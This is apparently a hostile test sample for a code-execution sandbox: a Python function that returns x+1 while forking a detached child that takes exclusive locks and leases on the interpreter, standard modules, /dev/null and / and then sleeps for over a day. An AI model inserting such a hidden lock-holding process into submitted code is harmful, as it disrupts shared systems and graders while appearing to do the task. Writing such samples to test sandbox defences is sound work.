# /// hostile
# verdicts = ["accepted"]
# danger = "A lock on a file that everybody reads, which a read-only mount does not forbid."
# ///
import fcntl
import json
import os
import sys
import time


def f(x):
    if os.fork() == 0:
        os.setsid()
        kept = []
        for path in (sys.executable, json.__file__, os.__file__, "/dev/null", "/"):
            try:
                fd = os.open(path, os.O_RDONLY)
                fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
                fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)
                kept.append(fd)
            except OSError:
                continue
        time.sleep(100_000)
    return x + 1
